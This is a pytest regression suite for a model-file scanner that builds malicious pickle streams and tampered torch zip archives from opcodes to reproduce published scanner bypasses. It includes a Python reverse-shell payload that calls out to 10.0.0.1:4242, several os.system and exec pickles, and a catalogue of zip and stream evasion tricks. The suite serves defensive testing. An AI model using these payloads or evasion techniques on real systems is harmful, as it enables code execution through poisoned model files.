"""One regression test per published scanner bypass, named after its advisory or write-up.

Every malicious file is built here from opcodes (or by tampering with an archive built here); nothing is
downloaded and nothing is ever unpickled.
"""

from __future__ import annotations

import bz2
import copyreg
import gzip
import io
import zipfile

import pytest

from hoplon.scan import BYPASSES, FileRecord
from hoplon.scan._callables import classify
from tests.scan import builders as b
from tests.scan.conftest import ScanBytes


def worst(records: list[FileRecord]) -> str:
    order = ["clean", "suspicious", "unsafe"]
    return max((r.verdict for r in records), key=lambda v: order.index(v) if v in order else 3)


def callables(records: list[FileRecord]) -> set[str]:
    return {str(f.evidence["callable"]) for r in records for f in r.findings if f.evidence.get("callable")}


def ids(records: list[FileRecord]) -> set[str]:
    return {f.id for r in records for f in r.findings}


# --- picklescan CVEs -----------------------------------------------------------------------------------------


def test_cve_2025_1716_pip_main(scan_bytes: ScanBytes) -> None:
    records = scan_bytes(b.call("pip", "main", "install", "evil-package"))
    assert worst(records) == "unsafe"
    finding = next(f for f in records[0].findings if f.evidence.get("callable") == "pip.main")
    assert finding.evidence["offset"] == 2
    assert "CVE-2025-1716" in finding.evidence["advisory"]


def test_cve_2025_1889_nonstandard_extension_in_torch_zip(scan_bytes: ScanBytes) -> None:
    data = b.torch_zip(b.benign(), pickle_name="data.pkl")
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a") as z:
        z.writestr("archive/extra.custom", b.call("os", "system", "id"))
    records = scan_bytes(buf.getvalue(), "model.pt")
    assert worst(records) == "unsafe"
    assert any(r.path.endswith("!archive/extra.custom") and r.verdict == "unsafe" for r in records)


def test_cve_2025_1944_zip_name_mismatch(scan_bytes: ScanBytes) -> None:
    data = b.patch_local_name(b.torch_zip(b.call("os", "system", "id")), "archive/data.pkl", "archive/data.pk_")
    records = scan_bytes(data, "model.pt")
    assert "scan.archive.name-mismatch" in ids(records)
    assert worst(records) == "unsafe"
    assert "posix.system" in callables(records) or "os.system" in callables(records)


def test_cve_2025_1945_zip_flag_bits(scan_bytes: ScanBytes) -> None:
    data = b.set_flag_bits(b.torch_zip(b.call("os", "system", "id")), 0x1)
    records = scan_bytes(data, "model.pt")
    assert "scan.archive.flag-bits" in ids(records)
    assert worst(records) == "unsafe"


def test_cve_2025_10156_zip_bad_crc(scan_bytes: ScanBytes) -> None:
    data = b.break_crc(b.torch_zip(b.call("os", "system", "id")), "archive/data.pkl")
    with pytest.raises(zipfile.BadZipFile):
        zipfile.ZipFile(io.BytesIO(data)).read("archive/data.pkl")
    records = scan_bytes(data, "model.pt")
    assert "scan.archive.bad-crc" in ids(records)
    assert worst(records) == "unsafe"


def test_cve_2025_10155_pickle_behind_pytorch_extension(scan_bytes: ScanBytes) -> None:
    for name in ("pytorch_model.bin", "weights.pt", "x.ckpt", "x.data", "x.dat", "noext"):
        records = scan_bytes(b.call("os", "system", "id", proto=4), name)
        assert worst(records) == "unsafe", name


def test_cve_2025_10157_submodule_of_unsafe_module(scan_bytes: ScanBytes) -> None:
    for module, name in (
        ("asyncio.unix_events", "_UnixSelectorEventLoop._make_subprocess_transport"),
        ("asyncio.subprocess", "create_subprocess_exec"),
        ("os.path", "join"),
    ):
        records = scan_bytes(b.call(module, name, "sh", proto=4))
        assert worst(records) == "unsafe", module


# --- stream tricks ------------------------------------------------------------------------------------------


def test_picklescan_stack_global_from_memo(scan_bytes: ScanBytes) -> None:
    # the module and name strings are memoised early, then fetched with BINGET right before STACK_GLOBAL
    data = (
        b.PROTO4
        + b.ustr("os") + b.put(0) + b"0"
        + b.ustr("system") + b.put(1) + b"0"
        + b.get(0) + b.get(1) + b"\x93"
        + b.ustr("id") + b.TUPLE1 + b.REDUCE + b.STOP
    )  # fmt: skip
    records = scan_bytes(data)
    assert worst(records) == "unsafe"
    finding = next(f for f in records[0].findings if f.evidence.get("callable") == "os.system")
    assert finding.evidence["opcode"] == "STACK_GLOBAL"
    assert finding.evidence["call_offsets"]


def test_trail_of_bits_data_after_stop(scan_bytes: ScanBytes) -> None:
    records = scan_bytes(b.benign() + b.call("os", "system", "id"))
    assert worst(records) == "unsafe"
    finding = next(f for f in records[0].findings if f.evidence.get("callable") == "os.system")
    assert finding.evidence["pickle"] == 1


def test_nullifai_broken_stream_payload_first(scan_bytes: ScanBytes) -> None:
    payload = b.call("os", "system", "id")[:-1]  # drop the STOP ...
    records = scan_bytes(b.torch_zip(payload + b"\xff\xfe garbage"), "model.pt")  # ... and break the stream
    assert worst(records) == "unsafe"
    assert {"scan.pickle.dangerous-callable", "scan.pickle.malformed"} <= ids(records)


def test_nullifai_7z_wrapper(scan_bytes: ScanBytes) -> None:
    data = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64
    records = scan_bytes(data, "pytorch_model.bin")
    assert records[0].format == "7z"
    assert records[0].verdict != "clean"


def test_copyreg_ext_opcodes(scan_bytes: ScanBytes) -> None:
    unregistered = b.PROTO2 + b"\x82\x07" + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.STOP
    records = scan_bytes(unregistered)
    assert "scan.pickle.ext-registry" in ids(records)
    assert worst(records) == "unsafe"  # a call of a callable nobody can name
    copyreg.add_extension("os", "system", 0xF00D)
    try:
        registered = b.PROTO2 + b"\x83" + (0xF00D).to_bytes(2, "little") + b"(" + b.ustr("id") + b"tR."
        records = scan_bytes(registered, "registered.pkl")
    finally:
        copyreg.remove_extension("os", "system", 0xF00D)
    assert "os.system" in callables(records)
    assert worst(records) == "unsafe"


def test_dotted_name_through_safe_module(scan_bytes: ScanBytes) -> None:
    records = scan_bytes(b.call("torch", "serialization.os.system", "id", proto=4))
    assert worst(records) == "unsafe"
    records = scan_bytes(b.call("collections", "OrderedDict.__init__.__globals__", "x", proto=4), "g.pkl")
    assert worst(records) == "unsafe"


def test_python2_builtin_names(scan_bytes: ScanBytes) -> None:
    data = b"c__builtin__\neval\n(S'1+1'\ntR."
    records = scan_bytes(data)
    assert "builtins.eval" in callables(records)
    assert worst(records) == "unsafe"


def test_jfrog_reduce_exec_reverse_shell_in_torch_zip(scan_bytes: ScanBytes) -> None:
    shell = "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));pty.spawn('/bin/sh')"
    records = scan_bytes(b.torch_zip(b.call("builtins", "exec", shell)), "pytorch_model.bin")
    assert worst(records) == "unsafe"
    assert "builtins.exec" in callables(records)


def test_nested_pickle_loads_reports_the_inner_payload(scan_bytes: ScanBytes) -> None:
    inner = b.call("os", "system", "id")
    data = b.PROTO2 + b.glob("_pickle", "loads") + b.MARK + b.bbytes(inner) + b.TUPLE + b.REDUCE + b.STOP
    records = scan_bytes(data)
    assert {"_pickle.loads", "os.system"} <= callables(records)


def test_builtins_getattr_chain(scan_bytes: ScanBytes) -> None:
    data = (
        b.PROTO2 + b.glob("builtins", "getattr") + b.MARK + b.glob("builtins", "__import__")
        + b.MARK + b.ustr("os") + b.TUPLE + b.REDUCE + b.ustr("system") + b.TUPLE + b.REDUCE
        + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.STOP
    )  # fmt: skip
    records = scan_bytes(data)
    assert {"builtins.getattr", "builtins.__import__"} <= callables(records)
    assert "scan.pickle.dynamic-call" in ids(records)


def test_numpy_object_array_carrying_a_payload(scan_bytes: ScanBytes) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b.call("os", "system", "id")
    records = scan_bytes(npy, "array.npy")
    assert records[0].format == "npy-object"
    assert worst(records) == "unsafe"
    records = scan_bytes(b.call("numpy", "load", "/tmp/x.npy"), "n.pkl")
    assert worst(records) == "unsafe"


def test_nested_archive_and_wrappers_hide_nothing(scan_bytes: ScanBytes) -> None:
    evil = b.torch_zip(b.call("os", "system", "id"))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner/model.pt", evil)
    for name, data in (
        ("outer.zip", outer.getvalue()),
        ("model.pt.gz", gzip.compress(evil)),
        ("model.pkl.bz2", bz2.compress(b.call("os", "system", "id"))),
    ):
        assert worst(scan_bytes(data, name)) == "unsafe", name


# --- every callable named by a published bypass --------------------------------------------------------------

_CASES = [(bp.key, name) for bp in BYPASSES for name in bp.callables]


@pytest.mark.parametrize(("key", "qualname"), _CASES, ids=[f"{k}:{n}" for k, n in _CASES])
def test_published_callable_is_unsafe(scan_bytes: ScanBytes, key: str, qualname: str) -> None:
    module, _, name = qualname.partition(".")
    # protocol 4 STACK_GLOBAL with the dotted remainder, as an attacker would write it
    records = scan_bytes(b.call(module, name, "x", proto=4), "p.pkl")
    assert worst(records) == "unsafe"
    assert classify(module, name).category == "dangerous"


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("uuid", "_get_command_stdout"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
        ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"),
    ],
)
def test_cve_2026_56315_stdlib_command_gadgets(scan_bytes: ScanBytes, module: str, name: str) -> None:
    records = scan_bytes(b.call(module, name, "id"))
    assert worst(records) == "unsafe"
    assert f"{module}.{name}" in callables(records)


def test_cve_2026_56304_logging_filehandler(scan_bytes: ScanBytes) -> None:
    records = scan_bytes(b.call("logging", "FileHandler", "/tmp/created-by-pickle"))
    assert worst(records) == "unsafe"


REGRESSION_TESTS = {
    "pip-main": test_cve_2025_1716_pip_main,
    "nonstandard-extension-in-zip": test_cve_2025_1889_nonstandard_extension_in_torch_zip,
    "zip-name-mismatch": test_cve_2025_1944_zip_name_mismatch,
    "zip-flag-bits": test_cve_2025_1945_zip_flag_bits,
    "zip-bad-crc": test_cve_2025_10156_zip_bad_crc,
    "extension-as-pickle": test_cve_2025_10155_pickle_behind_pytorch_extension,
    "submodule-of-unsafe-module": test_cve_2025_10157_submodule_of_unsafe_module,
    "stack-global-from-memo": test_picklescan_stack_global_from_memo,
    "data-after-stop": test_trail_of_bits_data_after_stop,
    "broken-stream-payload-first": test_nullifai_broken_stream_payload_first,
    "7z-torch-archive": test_nullifai_7z_wrapper,
    "ext-opcodes-copyreg": test_copyreg_ext_opcodes,
    "dotted-name-through-safe-module": test_dotted_name_through_safe_module,
    "python2-builtin-names": test_python2_builtin_names,
    "reduce-exec-reverse-shell": test_jfrog_reduce_exec_reverse_shell_in_torch_zip,
    "nested-pickle-loads": test_nested_pickle_loads_reports_the_inner_payload,
    "builtins-getattr-chain": test_builtins_getattr_chain,
    "numpy-load-object-array": test_numpy_object_array_carrying_a_payload,
    "runpy-run-code": test_published_callable_is_unsafe,
    "pydoc-locate": test_published_callable_is_unsafe,
    "operator-attrgetter": test_published_callable_is_unsafe,
    "functools-partial": test_published_callable_is_unsafe,
    "torch-loaders": test_published_callable_is_unsafe,
    "stdlib-exec-gadgets": test_published_callable_is_unsafe,
    "timeit-cprofile": test_published_callable_is_unsafe,
    "code-interactive": test_published_callable_is_unsafe,
    "pty-spawn": test_published_callable_is_unsafe,
    "ctypes": test_published_callable_is_unsafe,
    "webbrowser-shutil": test_published_callable_is_unsafe,
    "importlib-import": test_published_callable_is_unsafe,
    "stdlib-command-gadgets-2026": test_cve_2026_56315_stdlib_command_gadgets,
    "logging-filehandler": test_cve_2026_56304_logging_filehandler,
}


def test_every_published_bypass_has_a_regression_test() -> None:
    assert {bp.key for bp in BYPASSES} == set(REGRESSION_TESTS)
